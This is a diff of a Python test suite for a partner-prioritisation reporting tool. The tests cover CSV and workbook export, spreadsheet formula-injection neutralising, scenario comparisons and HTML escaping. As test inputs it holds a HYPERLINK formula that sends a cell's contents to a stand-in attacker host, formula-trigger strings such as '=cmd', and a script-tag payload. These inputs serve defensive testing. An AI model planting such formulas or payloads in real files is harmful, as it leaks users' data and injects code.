@@ -12,11 +12,22 @@ import pandas as pd
 import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
+from office_support import page_count, to_pdf
 from openpyxl import load_workbook
 
-from prioritizer import report as R
-from prioritizer.charts import ChartMeta, ranking_bar
+from prioritizer import cells
+from prioritizer import views as V
+from prioritizer.charts.ranking import ranking_bar
+from prioritizer.charts.style import ChartMeta
+from prioritizer.cli import ranked_table
 from prioritizer.errors import InputError
+from prioritizer.load import read_table
+from prioritizer.pipeline import run_scoring
+from prioritizer.report import columns
+from prioritizer.report.export import sanitise_frame, to_csv_bytes, workbook_bytes
+from prioritizer.report.pack import briefing_pack
+from prioritizer.report.summary import markdown_to_html, summary_text
+from prioritizer.report.tables import compare_allocations, compare_rankings, scenario_settings_frame
 
 TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
 EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
@@ -24,8 +35,8 @@ PNG_MAGIC = b"\x89PNG\r\n\x1a\n"
 
 
 def _is_safe(text: str) -> bool:
-    assert set(TRIGGERS) <= set(R.FORMULA_TRIGGERS)  # at least the OWASP list
-    return not text.startswith(R.FORMULA_TRIGGERS) and not text.lstrip(" ").startswith(R.FORMULA_TRIGGERS)
+    assert set(TRIGGERS) <= set(cells.FORMULA_TRIGGERS)  # at least the OWASP list
+    return not text.startswith(cells.FORMULA_TRIGGERS) and not text.lstrip(" ").startswith(cells.FORMULA_TRIGGERS)
 
 
 @pytest.fixture()
@@ -45,12 +56,12 @@ def scores() -> pd.DataFrame:
 @settings(deadline=None)  # timing varies on a loaded machine; no deadline flakes
 @given(st.text())
 def test_sanitised_text_never_starts_with_a_formula_trigger(text):
-    out = R.sanitise_cell(text)
+    out = cells.neutralise(text)
     assert isinstance(out, str)
     assert _is_safe(out) or out == ""
     # Only ever a single quote prefixed; safe text is untouched.
     assert out in (text, "'" + text)
-    if not text.lstrip(" ").startswith(R.FORMULA_TRIGGERS):
+    if not text.lstrip(" ").startswith(cells.FORMULA_TRIGGERS):
         assert out == text
     else:
         assert out == "'" + text
@@ -59,7 +70,7 @@ def test_sanitised_text_never_starts_with_a_formula_trigger(text):
 @settings(deadline=None)  # timing varies on a loaded machine; no deadline flakes
 @given(st.one_of(st.integers(), st.floats(allow_nan=True, allow_infinity=True), st.booleans()))
 def test_numbers_are_unchanged(x):
-    out = R.sanitise_cell(x)
+    out = cells.neutralise(x)
     assert type(out) is type(x)
     assert out == x or (isinstance(x, float) and math.isnan(x) and math.isnan(out))
 
@@ -68,7 +79,7 @@ def test_numbers_are_unchanged(x):
 @given(st.lists(st.tuples(st.text(max_size=20), st.floats(allow_nan=False, width=32)), min_size=1, max_size=20))
 def test_sanitise_frame_keeps_numeric_columns_numeric(rows):
     df = pd.DataFrame(rows, columns=["=name", "value"])
-    out = R.sanitise_frame(df)
+    out = sanitise_frame(df)
     assert list(out.columns) == ["'=name", "value"]
     assert out["value"].dtype == df["value"].dtype
     pd.testing.assert_series_equal(out["value"], df["value"])
@@ -77,23 +88,23 @@ def test_sanitise_frame_keeps_numeric_columns_numeric(rows):
 
 
 def test_specific_cells():
-    assert R.sanitise_cell("=1+1") == "'=1+1"
-    assert R.sanitise_cell("+49 30 1234") == "'+49 30 1234"
-    assert R.sanitise_cell("-3") == "'-3"  # text that looks like a number is still text
-    assert R.sanitise_cell("@SUM(A1)") == "'@SUM(A1)"
-    assert R.sanitise_cell("\t=cmd") == "'\t=cmd"
-    assert R.sanitise_cell("\r=cmd") == "'\r=cmd"
-    assert R.sanitise_cell("  =1+1") == "'  =1+1"
-    assert R.sanitise_cell("Norway") == "Norway"
-    assert R.sanitise_cell("") == ""
-    assert R.sanitise_cell(-3.5) == -3.5
-    assert R.sanitise_cell(None) is None
-    assert R.sanitise_cell(np.float64(-2.0)) == -2.0
+    assert cells.neutralise("=1+1") == "'=1+1"
+    assert cells.neutralise("+49 30 1234") == "'+49 30 1234"
+    assert cells.neutralise("-3") == "'-3"  # text that looks like a number is still text
+    assert cells.neutralise("@SUM(A1)") == "'@SUM(A1)"
+    assert cells.neutralise("\t=cmd") == "'\t=cmd"
+    assert cells.neutralise("\r=cmd") == "'\r=cmd"
+    assert cells.neutralise("  =1+1") == "'  =1+1"
+    assert cells.neutralise("Norway") == "Norway"
+    assert cells.neutralise("") == ""
+    assert cells.neutralise(-3.5) == -3.5
+    assert cells.neutralise(None) is None
+    assert cells.neutralise(np.float64(-2.0)) == -2.0
 
 
 # --- CSV ---------------------------------------------------------------------------------------------
 def test_csv_has_bom_utf8_index_and_is_neutralised(scores):
-    data = R.to_csv_bytes(scores, machine=True)  # machine CSV: ids, full precision, no marking line
+    data = to_csv_bytes(scores, machine=True)  # machine CSV: ids, full precision, no marking line
     assert data.startswith(b"\xef\xbb\xbf")
     text = data.decode("utf-8-sig")
     back = pd.read_csv(io.StringIO(text), keep_default_na=False)
@@ -109,11 +120,9 @@ def test_csv_has_bom_utf8_index_and_is_neutralised(scores):
 
 
 def test_planner_csv_has_marking_labels_rounding_and_reimports(scores):
-    from prioritizer.load import read_table
-
     frame = scores.assign(coverage=[0.9999999999999999, 0.5, 1.0, 1.0, 0.25, 0.0],
                           propensity=[76.56137292197359, 55.25, 88.0, 40.0, 30.0, np.nan])
-    text = R.to_csv_bytes(frame, "CUI//TEST", priority_basis="proxy").decode("utf-8-sig")
+    text = to_csv_bytes(frame, "CUI//TEST", priority_basis="proxy").decode("utf-8-sig")
     lines = text.splitlines()
     assert lines[0] == "CUI//TEST"
     header = lines[1].split(",")
@@ -126,10 +135,9 @@ def test_planner_csv_has_marking_labels_rounding_and_reimports(scores):
 
 
 def test_priority_header_says_proxy():
-    from prioritizer import columns
 
     frame = pd.DataFrame({"partner_id": ["NOR"], "priority": [4.0]})
-    text = R.to_csv_bytes(frame, priority_basis="proxy").decode("utf-8-sig")
+    text = to_csv_bytes(frame, priority_basis="proxy").decode("utf-8-sig")
     assert "Priority (1–5, proxy)" in text.splitlines()[1]
     assert columns.to_column_ids(["Priority (1–5, proxy)"]) == ["priority"]
     assert columns.priority_basis_kind(["public-facts proxy: base 1", "planner edit"]) == "mixed"
@@ -138,7 +146,6 @@ def test_priority_header_says_proxy():
 
 
 def test_column_dictionary_is_valid_and_errors_name_the_row(tmp_path):
-    from prioritizer import columns
 
     specs = columns.load_columns()
     assert {"baseline_usd_m", "coverage", "propensity"} <= set(specs)
@@ -164,7 +171,7 @@ def _sheets(scores: pd.DataFrame) -> dict[str, pd.DataFrame]:
                                          "rationale": ["-strong governance; =shared interests"]}),
         "Indicators & sources": pd.DataFrame({"indicator_id": ["wgi_ge"], "source": ["World Bank WGI"],
                                               "year": [2023]}),
-        "Scenario settings": R.scenario_settings_frame({"budget_usd_m": 1500, "weights": {"governance": 0.3}}),
+        "Scenario settings": scenario_settings_frame({"budget_usd_m": 1500, "weights": {"governance": 0.3}}),
         "Overrides": pd.DataFrame({"partner_id": ["XYZ"], "construct": ["alignment"], "value": [80.0],
                                    "rationale": ["+planner judgement"]}),
         "A very long sheet name that Excel would reject": pd.DataFrame({"a": [1]}),
@@ -174,7 +181,7 @@ def _sheets(scores: pd.DataFrame) -> dict[str, pd.DataFrame]:
 
 def test_workbook_round_trip(scores):
     sheets = _sheets(scores)
-    data = R.workbook_bytes(sheets, {"Data sources": "World Bank WGI; V-Dem v14"},
+    data = workbook_bytes(sheets, {"Data sources": "World Bank WGI; V-Dem v14"},
                             meta=ChartMeta(scenario="FY26 baseline", date="2025-01-02", marking="UNCLASSIFIED"))
     wb = load_workbook(io.BytesIO(data))
     names = wb.sheetnames
@@ -227,7 +234,7 @@ def test_workbook_round_trip(scores):
 
 
 def test_workbook_notes_override_meta_and_default_sources(scores):
-    data = R.workbook_bytes({"Indicators & sources": pd.DataFrame({"a": [1]})},
+    data = workbook_bytes({"Indicators & sources": pd.DataFrame({"a": [1]})},
                             {"Scenario": "From notes", "Marking": "CUI"})
     about = {r[0]: r[1] for r in load_workbook(io.BytesIO(data))["About"].iter_rows(values_only=True) if r[0]}
     assert about["Scenario"] == "From notes" and about["Marking"] == "CUI"
@@ -236,11 +243,11 @@ def test_workbook_notes_override_meta_and_default_sources(scores):
 
 def test_workbook_rejects_non_tables():
     with pytest.raises(InputError, match="Rankings"):
-        R.workbook_bytes({"Rankings": [1, 2, 3]})  # type: ignore[dict-item]
+        workbook_bytes({"Rankings": [1, 2, 3]})  # type: ignore[dict-item]
 
 
 def test_scenario_settings_frame_flattens():
-    df = R.scenario_settings_frame({
+    df = scenario_settings_frame({
         "profile": "default", "budget_usd_m": 1500.5,
         "weights": {"governance": 0.3, "stability": {"fragility": 0.5}},
         "filters": {"commands": ["AFRICOM", "EUCOM"], "types": []},
@@ -261,21 +268,21 @@ def test_compare_rankings():
                      index=pd.Index(["NOR", "FRA", "GER"], name="partner_id"))
     b = pd.DataFrame({"name": ["N", "F", "X"], "rank": [2, 1, 3], "propensity": [85.0, 88, 60]},
                      index=pd.Index(["NOR", "FRA", "XXX"], name="partner_id"))
-    out = R.compare_rankings(a, b)
+    out = compare_rankings(a, b)
     assert out.loc["FRA", "rank_shift"] == 1 and out.loc["NOR", "rank_shift"] == -1
     assert out.loc["FRA", "propensity_change"] == 8 and out.loc["NOR", "propensity_change"] == -5
     assert out.loc["GER", "note"] == "only in A" and out.loc["XXX", "note"] == "only in B"
     assert np.isnan(out.loc["GER", "rank_b"])
     assert set(out.index[:2]) == {"FRA", "NOR"}
     with pytest.raises(InputError, match="scenario B"):
-        R.compare_rankings(a, b.drop(columns="rank"))
+        compare_rankings(a, b.drop(columns="rank"))
 
 
 def test_compare_allocations_by_index_and_long_rows():
     a = pd.DataFrame({"name": ["N", "F"], "recommended_usd_m": [10.0, 5.0]}, index=["NOR", "FRA"])
     b = pd.DataFrame({"partner_id": ["NOR", "NOR", "GER"], "mechanism": ["PME", "FMF", "PME"],
                       "recommended_usd_m": [4.0, 8.0, 3.0]})
-    out = R.compare_allocations(a, b)
+    out = compare_allocations(a, b)
     assert out.loc["NOR", "usd_m_b"] == 12.0 and out.loc["NOR", "delta_usd_m"] == 2.0
     assert out.loc["FRA", "usd_m_b"] == 0.0 and out.loc["FRA", "delta_usd_m"] == -5.0
     assert out.loc["GER", "usd_m_a"] == 0.0 and out.loc["GER", "delta_usd_m"] == 3.0
@@ -293,7 +300,7 @@ def _bullbear() -> pd.DataFrame:
 
 
 def test_summary_text_contents(scores):
-    md = R.summary_text(scores, _bullbear(), {"budget_usd_m": 1500, "baseline_usd_m": 1400.0,
+    md = summary_text(scores, _bullbear(), {"budget_usd_m": 1500, "baseline_usd_m": 1400.0,
                                               "recommended_usd_m": 1500.0},
                         meta=ChartMeta(title="Weekly what-if", scenario="FY26 *bold* test", date="2025-02-03"),
                         top_n=3)
@@ -313,15 +320,15 @@ def test_summary_text_contents(scores):
 def test_summary_rounding_and_plurals():
     scores = pd.DataFrame({"name": ["Solo"], "propensity": [50.0], "rank": [1], "quadrant": ["invest"],
                            "low_confidence": [True]}, index=["S"])
-    md = R.summary_text(scores, allocation_totals={"baseline_usd_m": 100.0, "recommended_usd_m": 99.99})
+    md = summary_text(scores, allocation_totals={"baseline_usd_m": 100.0, "recommended_usd_m": 99.99})
     assert "1 partner scored" in md and "1 partner —" in md and "1 partner, namely Solo" in md
     assert "- Change vs baseline: ±$0.0M" in md and "−$0.0M" not in md
 
 
 def test_markdown_to_html_escapes_everything():
-    md = R.summary_text(pd.DataFrame({"name": ["<script>alert(1)</script>"], "propensity": [50.0],
+    md = summary_text(pd.DataFrame({"name": ["<script>alert(1)</script>"], "propensity": [50.0],
                                       "rank": [1]}, index=["X"]))
-    page = R.markdown_to_html(md, marking="UNCLASSIFIED")
+    page = markdown_to_html(md, marking="UNCLASSIFIED")
     assert "<script>" not in page and "&lt;script&gt;" in page
     assert page.count('<p class="marking">UNCLASSIFIED</p>') == 2
     assert "<li>" in page and "<h1>" in page and "http" not in page
@@ -336,9 +343,9 @@ def test_briefing_pack_contents(scores):
         "Command split": alt.Chart(pd.DataFrame({"c": ["EUCOM", "AFRICOM"], "v": [2.0, 3.0]}))
         .mark_bar().encode(x="v:Q", y="c:N"),
     }
-    workbook = R.workbook_bytes({"Rankings": scores}, meta=meta)
-    md = R.summary_text(scores, _bullbear(), meta=meta)
-    blob = R.briefing_pack(charts, workbook, md, meta)
+    workbook = workbook_bytes({"Rankings": scores}, meta=meta)
+    md = summary_text(scores, _bullbear(), meta=meta)
+    blob = briefing_pack(charts, workbook, md, meta)
     zf = zipfile.ZipFile(io.BytesIO(blob))
     assert zf.testzip() is None
     names = set(zf.namelist())
@@ -365,14 +372,10 @@ def test_briefing_pack_contents(scores):
 # --- the app's full workbook, opened as a planner would ---------------------------------------------
 @pytest.fixture(scope="module")
 def full_workbook() -> bytes:
-    from prioritizer import views as V
-    from prioritizer.cli import ranked_table
-    from prioritizer.pipeline import run_scoring
-
     dataset, profile, result = run_scoring()
     scen = V.default_scenario(profile)
-    basis = R.columns.priority_basis_kind(result.scores["priority_basis"])
-    return R.workbook_bytes(V.workbook_sheets(ranked_table(result.scores), scen, dataset),
+    basis = columns.priority_basis_kind(result.scores["priority_basis"])
+    return workbook_bytes(V.workbook_sheets(ranked_table(result.scores), scen, dataset),
                             {"Scenario": "Print test", "Marking": "UNCLASSIFIED"}, priority_basis=basis)
 
 
@@ -396,8 +399,6 @@ def test_full_workbook_headers_formats_print_setup_and_marking(full_workbook):
 
 
 def test_rankings_sheet_prints_on_six_pages_or_fewer(full_workbook, tmp_path):
-    from office_support import page_count, to_pdf
-
     wb = load_workbook(io.BytesIO(full_workbook))
     for name in wb.sheetnames:
         if name != "Rankings":
